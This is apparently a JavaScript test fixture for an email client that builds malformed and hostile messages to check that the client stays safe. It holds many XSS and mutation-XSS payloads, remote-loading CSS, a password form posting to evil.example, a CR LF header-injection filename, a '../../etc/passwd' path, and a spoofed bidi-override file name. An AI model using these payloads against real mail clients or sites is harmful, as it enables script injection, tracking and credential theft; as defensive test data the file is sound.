// Mails as no well-behaved program writes them, for the folder "Odd" of the test seed: [name, bytes], in the order of
// their UIDs. Every one must be listed, opened and answered without an error and without anything running.
import { html, message, multipart, rfc5322Date, text, attachment } from './mime.mjs';

const demo = 'demo@posthorn.example';
const evil = 'Mallory <mallory@evil.example>';

export function oddMessages(now) {
  const date = new Date(now.getTime() - 600 * 60000);
  const day = rfc5322Date(date);
  const raw = (...lines) => Buffer.from(lines.join('\n'));
  const head = (subject, ...more) => [`From: ${evil}`, `To: ${demo}`, `Subject: ${subject}`, `Date: ${day}`, ...more];
  const plain = (subject, body = 'Body.', more = {}) => message({ from: evil, to: demo, subject, date, id: `odd-${subject.replace(/[^a-z0-9]+/gi, '-').slice(0, 40)}@evil.example`, ...more }, text(body));
  const list = [];
  const add = (name, bytes) => list.push([name, bytes]);

  add('no headers', raw('', 'Only a body, no headers at all.', ''));
  add('empty', Buffer.alloc(0));
  add('one newline', raw('', ''));
  add('no body', raw(...head('Odd: no body'), '', ''));
  add('headers without an end', raw(...head('Odd: headers without an end')));
  add('NULs', Buffer.concat([raw(...head('Odd: NULs inside'), ''), raw('', 'before'), Buffer.from([0, 0, 0]), raw('after', '')]));
  add('NUL in header', raw(...head('Odd: NUL\0in the subject'), '', 'Body.', ''));
  add('wrong charset label', Buffer.concat([raw(...head('Odd: charset says ASCII, is windows-1252', 'Content-Type: text/plain; charset=us-ascii'), '', ''), Buffer.from('Gr\xfc\xdfe \x84quoted\x93 \x80 5\n', 'latin1')]));
  add('unknown charset', raw(...head('Odd: unknown charset', 'Content-Type: text/plain; charset=x-klingon'), '', 'qaplaʼ äöü', ''));
  add('invalid UTF-8', Buffer.concat([raw(...head('Odd: invalid UTF-8', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'), '', 'good: ä, bad: '), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82, 0xf0, 0x9f, 0x0a])]));
  add('nested multiparts', nestedMultipart(100, head('Odd: 100 nested multiparts', 'MIME-Version: 1.0')));
  add('nested messages', nestedMessages(100, day));
  add('8-bit headers', Buffer.concat([Buffer.from(`From: J\xfcrgen <juergen@evil.example>\nTo: ${demo}\nSubject: Odd: raw 8-bit \xe4\xf6\xfc\xdf header\nDate: ${day}\n\nBody.\n`, 'latin1')]));
  add('raw UTF-8 headers', raw('From: Jürgen 🎺 <juergen@evil.example>', `To: ${demo}`, 'Subject: Odd: raw UTF-8 äöü 🎉 header', `Date: ${day}`, '', 'Body.', ''));
  add('long subject', plain(`Odd: ${'long '.repeat(1999)}`, 'A subject of 10,000 characters.', { id: 'odd-long@evil.example' }));
  add('long subject without spaces', plain(`Odd:${'W'.repeat(9996)}`, 'No place to break.', { id: 'odd-wide@evil.example' }));
  add('script subject', plain('Odd: <script>window.pwned=1</script></textarea><script>window.pwned=2</script>'));
  add('HTML in From', raw('From: "<img src=x onerror=window.pwned=3> \\"quoted\\" O\'Neil" <mallory@evil.example>', `To: "<b>Demo</b>" <${demo}>`, 'Subject: Odd: From with <img src=x onerror=window.pwned=3> & "quotes"', `Date: ${day}`, '', 'Body.', ''));
  add('textarea text', plain('Odd: closes the textarea', 'Please quote this:\n</textarea><script>window.pwned=4</script>\n<!-- --> ]]> {{7*7}} ${7*7}'));
  add('textarea text and html', message({ from: evil, to: demo, subject: 'Odd: closes the textarea, with HTML', date, id: 'odd-textarea@evil.example' }, multipart('alternative', [text('</textarea><script>window.pwned=5</script>'), html('<p>&lt;/textarea&gt;&lt;script&gt;window.pwned=6&lt;/script&gt;</p>')])));
  add('hostile HTML', message({ from: evil, to: demo, subject: 'Odd: hostile HTML', date, id: 'odd-hostile@evil.example' }, html(hostile)));
  add('hostile CSS', message({ from: evil, to: demo, subject: 'Odd: hostile CSS', date, id: 'odd-css@evil.example' }, html(hostileCss)));
  add('mutation', message({ from: evil, to: demo, subject: 'Odd: mutation XSS', date, id: 'odd-mutation@evil.example' }, html(mutation)));
  add('wrong boundary', raw(...head('Odd: boundary that never comes', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="right"'), '', '--wrong', 'Content-Type: text/plain', '', 'Under the wrong boundary.', '--wrong--', ''));
  add('no closing boundary', raw(...head('Odd: no closing boundary', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"'), '', '--b', 'Content-Type: text/plain', '', 'Text before the end.', '--b', 'Content-Type: application/octet-stream; name="cut.bin"', 'Content-Disposition: attachment; filename="cut.bin"', 'Content-Transfer-Encoding: base64', '', 'AAECAwQF', ''));
  add('no boundary parameter', raw(...head('Odd: multipart without a boundary', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed'), '', '--x', '', 'Text.', '--x--', ''));
  add('broken RFC 2231', raw(...head('Odd: broken RFC 2231', 'MIME-Version: 1.0', 'Content-Type: application/octet-stream', "Content-Disposition: attachment; filename*0*=utf-8''a%E4%; filename*2=c.txt; filename*1*=%ZZb; filename*99999999999=x", 'Content-Transfer-Encoding: base64'), '', 'aGVsbG8=', ''));
  const attach = (subject, id, disposition, type = 'text/plain') => raw(...head(subject, `Message-ID: <${id}@evil.example>`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"'), '', '--b', 'Content-Type: text/plain', '', 'See the attachment.', '--b', `Content-Type: ${type}`, `Content-Disposition: ${disposition}`, '', 'content', '--b--', '');
  add('path name', attach('Odd: attachment ../../etc/passwd', 'odd-path', 'attachment; filename="../../etc/passwd"'));
  add('CR LF in name', attach('Odd: attachment name with CR LF', 'odd-crlf', "attachment; filename*=utf-8''a%0D%0AX-Injected%3A%20yes%0D%0A%0D%0A%3Cscript%3E.txt"));
  add('HTML in name', attach('Odd: attachment name with HTML', 'odd-html-name', 'attachment; filename="\\"><img src=x onerror=window.pwned=7>.html"', 'text/html'));
  add('override in name', attach('Odd: attachment name with a bidi override', 'odd-bidi', "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe", 'application/x-msdownload'));
  add('bad base64', raw(...head('Odd: bad base64', 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'), '', 'SGVsbG8*** this is not base64 ==', 'V29ybGQ', ''));
  add('unknown encoding', raw(...head('Odd: unknown transfer encoding', 'MIME-Version: 1.0', 'Content-Type: text/plain', 'Content-Transfer-Encoding: x-rot13'), '', 'Uryyb', ''));
  add('bad date', raw(`From: ${evil}`, `To: ${demo}`, 'Subject: Odd: bad date', 'Date: Thu, 99 Foo 20x6 25:61:61 +9999', '', 'Body.', ''));
  add('dates far away', raw(`From: ${evil}`, `To: ${demo}`, 'Subject: Odd: date in the year 9999', 'Date: Fri, 31 Dec 9999 23:59:59 +0000', '', 'Body.', ''));
  add('bad addresses', raw('From: not an address at all', 'To: undisclosed-recipients:;', 'Cc: "unclosed <a@b>, ,,, @, <>, x@[127.0.0.1], "a b"@c.example', 'Subject: Odd: bad addresses', `Date: ${day}`, '', 'Body.', ''));
  add('twice', raw(`From: ${evil}`, 'From: second@evil.example', `To: ${demo}`, 'Subject: Odd: headers twice', 'Subject: Odd: the second subject', `Date: ${day}`, 'Message-ID: not-in-brackets', 'References: <a> b <c', '', 'Body.', ''));
  add('long line', plain('Odd: a line of 100,000 characters', 'x'.repeat(100000)));
  add('linkified', plain('Odd: links in plain text', 'javascript:alert(1) https://evil.example/"onmouseover="window.pwned=8 http://evil.example/<script>window.pwned=9</script>\nhttps://user:pass@evil.example/ mailto:a@b.example?bcc=x@evil.example www.evil.example (https://example.org/a_(b)) <https://example.org/x>'));
  add('SVG', message({ from: evil, to: demo, subject: 'Odd: SVG and HTML as attachments', date, id: 'odd-svg@evil.example' }, multipart('mixed', [text('Two dangerous attachments.'), attachment('image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=10"><script>window.pwned=11</script></svg>'), 'picture.svg'), attachment('text/html', Buffer.from('<script>window.pwned=12</script>'), 'page.html')])));
  add('cid SVG', message({ from: evil, to: demo, subject: 'Odd: cid image that is an SVG', date, id: 'odd-cidsvg@evil.example' }, multipart('related', [html('<p>Look: <img src="cid:evil@evil.example"><img src="cid:missing@evil.example"></p>'), attachment('image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=13</script></svg>'), 'x.svg', { disposition: 'inline', id: 'evil@evil.example' })])));
  add('many parts', message({ from: evil, to: demo, subject: 'Odd: 500 attachments', date, id: 'odd-parts@evil.example' }, multipart('mixed', Array.from({ length: 500 }, (_, i) => attachment('text/plain', Buffer.from(String(i)), `part-${i}.txt`)))));
  add('many recipients', message({ from: evil, to: Array.from({ length: 500 }, (_, i) => `Person ${i} <person${i}@many.example>`), subject: 'Odd: 500 recipients', date, id: 'odd-rcpt@evil.example' }, text('Body.')));
  add('imap looking', plain('Odd: "quoted" \\backslash {5}', '* BYE\na1 OK LOGOUT\n)\n'));
  return list;
}

function nestedMultipart(depth, head) {
  const lines = [...head];
  for (let i = 0; i < depth; i += 1) lines.push(`Content-Type: multipart/mixed; boundary="b${i}x"`, '', `--b${i}x`);
  lines.push('Content-Type: text/plain', '', 'At the bottom.');
  for (let i = depth - 1; i >= 0; i -= 1) lines.push(`--b${i}x--`);
  return Buffer.from(lines.join('\n') + '\n');
}

function nestedMessages(depth, day) {
  const lines = [];
  for (let i = 0; i < depth; i += 1) {
    lines.push(`From: ${evil}`, `To: ${demo}`, `Subject: Odd: 100 nested messages${i ? `, level ${i}` : ''}`, `Date: ${day}`, 'MIME-Version: 1.0', 'Content-Type: message/rfc822', '');
  }
  lines.push(`From: ${evil}`, 'Subject: the innermost', '', 'At the bottom.', '');
  return Buffer.from(lines.join('\n'));
}

const hostile = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>window.pwned=20;parent.document.title='pwned'</script><link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="window.pwned=21" background="https://evil.example/body.png"><p>Hostile but readable.</p>
<img src=x onerror="window.pwned=22"><img src="https://evil.example/track.gif?hostile"><img srcset="https://evil.example/2x.png 2x">
<a href="javascript:window.pwned=23">js link</a> <a href="java&#x09;script:window.pwned=24">tab link</a> <a href="data:text/html,<script>window.pwned=25</script>">data link</a> <a href="vbscript:x">vb</a>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.pwned=26"><button formaction="javascript:window.pwned=27">Go</button></form>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.window.pwned=28</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3"></audio>
<svg onload="window.pwned=29"><script>window.pwned=30</script><use href="https://evil.example/s.svg#a"/><animate attributeName="href" values="javascript:window.pwned=31"/><feImage href="https://evil.example/f.png"/><a xlink:href="javascript:window.pwned=32"><text>svg link</text></a></svg>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:window.pwned=33">math</maction></math>
<details open ontoggle="window.pwned=34"><summary>details</summary></details><marquee onstart="window.pwned=35">m</marquee>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">covers everything</div>
<label for="search">label outside</label><div id="app" class="app-shell" name="cookie">clobber</div><table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
<template><script>window.pwned=36</script></template><noscript><img src="https://evil.example/noscript.gif"></noscript><p>The end.</p></body></html>`;

const hostileCss = `<html><head><style>@import url(https://evil.example/i.css); @import "https://evil.example/i2.css";
body{background:url(https://evil.example/b.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)}
.a{background:image-set('https://evil.example/is.png' 1x)} .b{background:-webkit-image-set(url(https://evil.example/w.png) 1x)}
.c{--x:url(https://evil.example/var.png);background:var(--x)} .d{content:url(https://evil.example/c.png)} .e{cursor:url(https://evil.example/cur.png),auto}
.f{position:fixed!important;inset:0;background:red} .g{behavior:url(x.htc);-moz-binding:url(x)} .h{width:expression(window.pwned=40)}
.i{background:u\\72l(https://evil.example/esc.png)} .j{list-style:url('https://evil.example/l.png')} .k{mask:url(https://evil.example/m.png)} .l{background:url(https://evil.example/unclosed
</style></head><body><p class="a">a</p><p class="b">b</p><p class="c">c</p><p class="f">fixed</p>
<p style="background:url(&quot;https://evil.example/inline.png&quot;)">inline url</p><p style="background-image:image-set('https://evil.example/inl.png' 1x)">image-set</p><p style="position:absolute;top:-9999px">away</p>
<p style="background:src('https://evil.example/src.png')">src</p><p style="color:red;position:fixed!important;top:0">x</p><p style="margin-top:-5000px;transform:scale(100)">moved</p><p>Readable text.</p></body></html>`;

const mutation = `<p>Readable.</p><svg></p><style><a id="</style><img src=1 onerror=window.pwned=50>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=51&gt;">
<noscript><p title="</noscript><img src=x onerror=window.pwned=52>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=53></style>
<select><template><img src=x onerror=window.pwned=54></template></select><xmp><p title="</xmp><img src=x onerror=window.pwned=55>">
<![CDATA[><img src=x onerror=window.pwned=56>]]><!--><img src=x onerror=window.pwned=57>--><p>The end.</p>`;
